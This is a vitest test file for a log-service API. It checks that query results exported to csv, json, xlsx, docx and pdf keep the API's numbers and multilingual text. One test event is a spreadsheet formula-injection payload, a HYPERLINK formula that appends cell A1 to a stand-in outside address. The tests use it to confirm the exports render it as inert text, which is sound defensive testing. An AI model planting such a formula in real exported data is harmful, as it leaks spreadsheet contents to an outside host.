import { mkdirSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { beforeAll, describe, expect, test } from 'vitest'
import type { ChangesResults } from '../../src/schema/query/changes.ts'
import type { EventRateResults } from '../../src/schema/query/event-rate.ts'
import type { FieldStatsResults } from '../../src/schema/query/field-stats.ts'
import type { LastNResults } from '../../src/schema/query/last-n.ts'
import type { PatternsResults } from '../../src/schema/query/patterns.ts'
import type { ProcessingStatsResults } from '../../src/schema/query/processing-stats.ts'
import { type QueryRepresentation, type QueryType, queryTypes } from '../../src/schema/query/query.ts'
import type { SearchResults } from '../../src/schema/query/search.ts'
import type { StatsResults } from '../../src/schema/query/stats.ts'
import type { StorageStatsResults } from '../../src/schema/query/storage-stats.ts'
import type { TasksResults } from '../../src/schema/query/tasks.ts'
import type { TopNResults } from '../../src/schema/query/top-n.ts'
import { DocumentReader, numbersIn } from '../testing/document-reader.ts'
import { startMillrace } from '../testing/service.ts'
import { until } from '../testing/until.ts'

// Its own keys are the query types.
const types = Object.keys(queryTypes) as QueryType[]
const formats = ['csv', 'json', 'xlsx', 'docx', 'pdf'] as const
const formula = '=HYPERLINK("http://203.0.113.1/"&A1,"total")'
const messages = [
  'Built outbound TCP connection 1298374 for outside:198.51.100.7/443',
  '用户登录失败：密码错误',
  'Ошибка авторизации пользователя',
  'فشل تسجيل الدخول',
  formula,
]
const words = ['1298374', '登录失败', 'Ошибка']

const millrace = startMillrace()
const { client } = millrace
let readers: DocumentReader
const answers = new Map<QueryType, QueryRepresentation>()
const jsons = new Map<QueryType, unknown>()

beforeAll(async () => {
  const now = Math.floor(Date.now() / 1_000)
  const events = Array.from({ length: 150 }, (_, i) => ({
    message: messages[i % messages.length] ?? '',
    host: `fw-${i % 7}`,
    program: i % 2 ? 'sshd' : 'kernel',
    // Far enough apart that none repeats another.
    ts: now - 60 - i * 97,
    priority: i % 8,
  }))
  expect(await client.send(events)).toBe(200)
  await client.post('/api/tasks', { title: 'Replace the fan', description: 'Rack 7', due: now })
  await until('150 events', async () => (await client.search({ page_size: 1 })).totals.count === 150)
  await until('a sample of the host', async () => (await client.query('System_CPU', {})).results)
  // Absolute and in the past: nothing changes between an answer and its export.
  const time_range = { ts_from: now - 86_400, ts_to: now }
  for (const type of types) answers.set(type, await client.query(type, paramsOf(type, time_range)))

  const folder = path.join(millrace.dataDir, 'exports')
  mkdirSync(folder)
  for (const [type, { query_id }] of answers) {
    for (const format of formats) {
      const answer = await client.get(`/api/query/${query_id}/export?ftype=${format}&filename=${type}`)
      expect([type, format, answer.status]).toEqual([type, format, 200])
      expect(answer.headers.get('content-disposition')).toContain(`filename="${type}.${format}"`)
      const bytes = Buffer.from(await answer.arrayBuffer())
      writeFileSync(path.join(folder, `${type}.${format}`), bytes)
      if (format === 'json') jsons.set(type, JSON.parse(bytes.toString()))
    }
  }
  readers = new DocumentReader(folder)
})

function paramsOf(type: QueryType, time_range: { ts_from: number; ts_to: number }): Record<string, unknown> {
  if (type === 'Tasks' || type === 'Notifications') return {}
  if (type === 'Search') return { time_range, page_size: 500 }
  if (type === 'Stats')
    return {
      time_range,
      functions: ['avg', 'max', 'count'],
      field: 'severity',
      group_by: ['host', 'program'],
      limit: 9,
    }
  if (type === 'TopN') return { time_range, field: 'host', limit: 5, with_subperiods: true, show_other: true }
  return { time_range }
}

/** The numbers of an answer that a user would look for. */
function numbersOf(type: QueryType): number[] {
  // Each type returns its own results (schema/query/query.ts).
  const results = answers.get(type)?.results as unknown
  switch (type) {
    case 'Search': {
      const { events } = results as SearchResults
      return events.objects.map(event => event.counter)
    }
    case 'TopN':
      return (results as TopNResults).totals.values.map(value => value.count)
    case 'Patterns':
      return (results as PatternsResults).totals.values.map(value => value.count)
    case 'FieldStats': {
      const { totals } = results as FieldStatsResults
      return totals.values.map(value => value.count)
    }
    case 'Stats':
      return (results as StatsResults).totals.values.flatMap(({ values }) =>
        Object.values(values).map(value => value ?? 0),
      )
    case 'Changes':
      return (results as ChangesResults).totals.values.flatMap(({ count, count_before }) => [
        count,
        count_before,
      ])
    case 'LastN':
      return (results as LastNResults).totals.values.map(value => value.count)
    case 'EventRate':
      return (results as EventRateResults).details.map(period => period.count)
    case 'StorageStats': {
      const { totals, all_time } = results as StorageStatsResults
      return [totals.new, totals.duplicates, totals.total, all_time.new, all_time.total]
    }
    case 'ProcessingStats': {
      const { details } = results as ProcessingStatsResults
      return details.flatMap(period => [period.new, period.duplicates, period.oot])
    }
    case 'Tasks':
      return (results as TasksResults).map(task => task.id)
    case 'Notifications':
      return []
    default: {
      const { details } = results as { details: Record<string, number>[] }
      return details.flatMap(({ ts_from: _from, ts_to: _to, ...metrics }) => Object.values(metrics))
    }
  }
}

/** Numbers of the answer that a text lacks; `decimals` is the expected number of decimals. */
function missing(type: QueryType, text: string, decimals: number): number[] {
  const there = numbersIn(text)
  const rounded = (value: number) => Number(value.toFixed(decimals))
  const shown = new Set([...there].map(rounded))
  return numbersOf(type).filter(value => !shown.has(rounded(value)))
}

/** Wanted words that a text does not contain. */
function lacking(text: string | undefined, wanted: readonly string[]): string[] {
  return wanted.filter(word => !text?.includes(word))
}

describe('every type of query as a file that a program of others reads, with the numbers of the API', () => {
  test('json: of a Search all that matches, else the answer itself', () => {
    for (const type of types) {
      if (type === 'Search') expect(jsons.get(type)).toMatchObject({ item_count: 150 })
      else expect(jsons.get(type)).toMatchObject({ type, results: answers.get(type)?.results })
    }
  })

  test('csv, by LibreOffice: a formula is text', async () => {
    const sheets = await readers.sheets('csv')
    for (const type of types) expect([type, missing(type, sheets.get(type) ?? '', 6)]).toEqual([type, []])
    expect(lacking(sheets.get('Search'), [...words, `"'=HYPERLINK(""http`])).toEqual([])
  })

  test('xlsx, by LibreOffice: a formula is text', async () => {
    const sheets = await readers.sheets('xlsx')
    for (const type of types) expect([type, missing(type, sheets.get(type) ?? '', 6)]).toEqual([type, []])
    expect(lacking(sheets.get('Search'), [...words, '=HYPERLINK(""http'])).toEqual([])
  })

  test('docx, by LibreOffice', async () => {
    const texts = await readers.words()
    for (const type of types) expect([type, missing(type, texts.get(type) ?? '', 3)]).toEqual([type, []])
    expect(lacking(texts.get('Search'), [...words, formula])).toEqual([])
  })

  test('pdf, by poppler: its words, and a page that can be drawn', async () => {
    const pages = await readers.pages()
    for (const type of types) {
      const { text = '', picture = 0 } = pages.get(type) ?? {}
      expect([type, missing(type, text, 3)]).toEqual([type, []])
      expect(text).toMatch(/Generated \d{4}-\d\d-\d\d .* on \S+ +Page 1 of \d+/)
      expect(picture).toBeGreaterThan(2_000)
    }
    expect(lacking(pages.get('Search')?.text, [...words, '=HYPERLINK("http'])).toEqual([])
  })
})
